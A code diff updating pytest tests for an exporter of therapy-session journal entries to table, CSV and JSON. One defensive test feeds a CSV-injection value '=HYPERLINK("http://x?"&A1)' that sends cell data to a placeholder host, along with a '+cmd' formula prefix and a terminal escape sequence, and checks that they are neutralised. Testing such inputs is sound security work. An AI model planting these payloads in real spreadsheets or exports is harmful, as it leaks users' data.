@@ -1,4 +1,4 @@
-"""Exports: the same facts as an aligned table, CSV and JSON."""
+"""Exports: the same facts as an aligned table, CSV and JSON, every answer included."""
 
 from __future__ import annotations
 
@@ -10,12 +10,12 @@ import json
 import pytest
 
 from coach.journal.export import render, to_csv, to_json, to_table
-from tests.snapshots.apps.journal_data import program, record
+from tests.snapshots.apps.journal_data import pack, record
 
-PROG = program()
+PACK = pack()
 SESSIONS = [
     record(dt.date(2026, 1, 7), level="size-2", comfort=None, notes='second, "quoted"\nline 2'),
-    record(dt.date(2026, 1, 5), comfort=7, active_seconds=754.0),
+    record(dt.date(2026, 1, 5), comfort=7, active_seconds=754.0, resistances=2),
     record(
         dt.date(2026, 1, 9),
         level="size-2",
@@ -28,65 +28,77 @@ SESSIONS = [
         pain=None,
         bleeding=None,
     ),
-    record(dt.date(2026, 1, 10), finished=False, completed=False, bleeding=True, pain=True),
+    record(dt.date(2026, 1, 10), finished=False, completed=False, bleeding="more", pain=True),
 ]
 
 
 def test_json_is_a_list_of_objects_oldest_first() -> None:
-    data = json.loads(to_json(SESSIONS, PROG))
+    data = json.loads(to_json(SESSIONS, PACK))
     assert [row["date"] for row in data] == ["2026-01-05", "2026-01-07", "2026-01-09", "2026-01-10"]
     first = data[0]
-    assert first["started"] == "2026-01-05T09:00:00+01:00"
+    assert first["kind"] == "session" and first["started"] == "2026-01-05T09:00:00+01:00"
     assert first["protocol"] == "Dilation session" and first["level"] == "Size 1 (smallest)"
-    assert first["active_minutes"] == 12.6 and first["comfort"] == 7
-    assert (first["pain"], first["bleeding"], first["finished"]) == (False, False, True)
-    assert data[1]["notes"] == 'second, "quoted"\nline 2' and data[1]["comfort"] is None
-    assert data[2]["pain_stop"] is True and data[2]["pain"] is None and data[2]["status"] == "pain"
+    assert first["active_minutes"] == 12.6
+    assert first["answers"] == {"comfort": 7, "pain": False, "bleeding": "none"}
+    assert (first["attempts"], first["resistances"], first["counts"]) == (3, 2, True)
+    assert (first["pain"], first["finished"]) == (False, True)
+    assert data[1]["notes"] == 'second, "quoted"\nline 2' and "comfort" not in data[1]["answers"]
+    assert data[2]["pain_stop"] is True and data[2]["pain"] is True and data[2]["status"] == "pain"
+    assert data[2]["counts"] is False
     assert data[3]["finished"] is False and data[3]["status"] == "unfinished"
+    assert data[3]["answers"]["bleeding"] == "more"
 
 
-def test_csv_round_trips_with_the_level_noun_as_header() -> None:
-    rows = list(csv.DictReader(io.StringIO(to_csv(SESSIONS, PROG))))
+def test_csv_round_trips_with_a_column_per_question() -> None:
+    rows = list(csv.DictReader(io.StringIO(to_csv(SESSIONS, PACK))))
     assert list(rows[0]) == [
         "date",
         "time",
         "protocol",
         "size",
         "active minutes",
-        "comfort",
+        "steps done",
+        "attempts",
+        "resistances",
         "pain",
+        "comfort",
         "bleeding",
         "finished",
         "status",
+        "counts",
         "notes",
     ]
     assert rows[0]["size"] == "Size 1 (smallest)" and rows[0]["active minutes"] == "12.6"
+    assert rows[0]["resistances"] == "2" and rows[0]["counts"] == "yes"
     assert rows[1]["notes"] == 'second, "quoted"\nline 2' and rows[1]["comfort"] == ""
     assert rows[2]["pain"] == "yes" and rows[2]["bleeding"] == "" and rows[2]["finished"] == "yes"
-    assert rows[3]["finished"] == "no" and rows[3]["bleeding"] == "yes"
+    assert rows[3]["finished"] == "no" and rows[3]["bleeding"] == "More than spotting"
 
 
 def test_csv_cells_cannot_become_spreadsheet_formulas() -> None:
     evil = record(dt.date(2026, 1, 5), notes='=HYPERLINK("http://x?"&A1)')._replace(
         protocol_title="+cmd"
     )
-    row = next(csv.DictReader(io.StringIO(to_csv([evil], PROG))))
+    row = next(csv.DictReader(io.StringIO(to_csv([evil], PACK))))
     assert row["notes"].startswith("'=") and row["protocol"] == "'+cmd"
-    assert json.loads(to_json([evil], PROG))[0]["notes"].startswith("=")  # JSON stays exact
+    assert json.loads(to_json([evil], PACK))[0]["notes"].startswith("=")  # JSON stays exact
 
 
 def test_table_is_aligned_and_safe_for_a_terminal() -> None:
     noisy = record(dt.date(2026, 1, 11), notes="\x1b[2J cleared? " + "long " * 20)
-    lines = to_table([*SESSIONS, noisy], PROG).splitlines()
+    lines = to_table([*SESSIONS, noisy], PACK).splitlines()
     assert lines[0].split() == [
         "Date",
         "Protocol",
         "Size",
         "Min",
-        "Comfort",
+        "Tries",
+        "Resist",
         "Pain",
+        "Comfort",
         "Bleeding",
         "Finished",
+        "Counts",
         "Notes",
     ]
     assert set(lines[1]) == {"-", " "}
@@ -98,7 +110,16 @@ def test_table_is_aligned_and_safe_for_a_terminal() -> None:
     col = lines[0].index("Min") + len("Min")
     assert lines[2][col - 4 : col] == "12.6"
     assert "stop" in lines[4] and "pain" in lines[4]
-    assert "unfinished" in lines[5]
+    assert "unfinished" in lines[5] and "More than spotting" in lines[5]
+
+
+def test_every_pack_named_with_all_packs() -> None:
+    theirs = record(dt.date(2026, 1, 6), level="other-size")._replace(pack_id="pelvic")
+    data = json.loads(to_json([*SESSIONS, theirs], PACK, all_packs=True))
+    assert [row["pack"] for row in data][:2] == ["test-pack", "pelvic"]
+    assert data[1]["level"] == "other-size" and data[1]["counts"] is None  # not judged here
+    table = to_table([*SESSIONS, theirs], PACK, all_packs=True).splitlines()
+    assert table[0].split()[0] == "Pack" and table[3].startswith("pelvic")
 
 
 def test_without_a_programme_levels_show_their_ids() -> None:
@@ -108,7 +129,7 @@ def test_without_a_programme_levels_show_their_ids() -> None:
 
 
 def test_render_dispatches_and_rejects_unknown_formats() -> None:
-    assert render("json", [], PROG) == "[]\n"
-    assert render("csv", [], PROG).startswith("date,time,protocol,size")
+    assert render("json", [], PACK) == "[]\n"
+    assert render("csv", [], PACK).startswith("date,time,protocol,size")
     with pytest.raises(ValueError):
-        render("xml", [], PROG)
+        render("xml", [], PACK)
